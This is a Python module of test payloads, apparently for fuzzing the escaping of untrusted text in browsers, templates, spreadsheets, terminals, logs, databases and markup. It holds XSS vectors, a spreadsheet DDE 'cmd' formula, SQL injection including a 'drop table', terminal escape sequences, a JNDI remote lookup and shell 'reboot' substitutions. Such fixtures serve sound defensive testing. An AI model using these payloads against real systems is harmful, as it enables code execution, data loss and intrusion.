"""Texts that are no words to whoever reads them: a browser, a workbook, a terminal, a template, a database, a log."""

# ruff: noqa: E501 - one case a line

from collections.abc import Iterator

PAGE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><h1>x</h1>", "<!--", "-->", "]]>", "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>x</a>", "<base href=//example.org>", "<meta http-equiv=refresh content=0>", "<svg/onload=alert(1)>", "&lt;b&gt;&#x3c;",
    '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", "</title></style></textarea>", "<iframe srcdoc=x>", "<br><hr><p>", "<![CDATA[", "&nbsp;" * 3,
)  # fmt: skip
TEMPLATE = (
    "{{7*7}}",
    "{% include 'x' %}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 %>",
    "%(asctime)s",
    "%s%n%x",
    "{0.__class__}",
    "{password}",
    "%",
    "\\N{BEL}",
)
SHEET = (
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://example.org")',
    "\t=1",
    "\r=1",
    "＝1+1",
    "=1;2",
    "'=1",
    "{=1}",
    "_x000D_",
)
TERMINAL = (
    "\x1b[2J", "\x1b]0;t\x07", "\x1b]8;;http://example.org\x1b\\x", "\x9b2J", "\x1bPq\x1b\\", "a\x08\x08b", "\x07", "\x0c", "\x1b[31mred", "\x7f", "\x1bc",
    "\u202etxt.exe", "\u2066x", "\u200f", "\ufeff", "\U000e0041", "\x90x\x9c", "\x00", "\x1b[6n",
)  # fmt: skip
LINES = (
    "\nBcc: <a@example.org>",
    "\r\nSubject: x\r\n\r\nx",
    "\u2028x",
    "\u2029x",
    "\x85x",
    "\x0bx",
    "\rx",
    "\n2026-01-01 00:00:00,000 ERROR x: y",
    "\n\n.\n",
)
STORE = (
    "' OR 1=1 --",
    '"a" NEAR b',
    "a* AND NOT b",
    "text:x",
    "^x",
    "((",
    '"',
    "'; drop table mails; --",
    "{a b}: x",
    "%_",
    "\\",
    "NULL",
)
MARKS = ("[bold red]x[/]", "[/]", "[link=http://example.org]x[/link]", ":smile:", "**x** `x`", "${jndi:ldap://192.0.2.1/a}", "$(reboot)", "`reboot`", "| cat", "../../x", "CON", "x" * 300)  # fmt: skip

GROUPS = {
    "page": PAGE,
    "template": TEMPLATE,
    "sheet": SHEET,
    "terminal": TERMINAL,
    "lines": LINES,
    "store": STORE,
    "marks": MARKS,
}
WRAPPED = ("%s", "慰问%s", "%s慰问", "《%s》", "%s%s")


def payloads() -> Iterator[str]:
    """All of them, in each wrapping."""
    for wrapping in WRAPPED:
        for group in GROUPS.values():
            for text in group:
                yield wrapping.replace("%s", text)
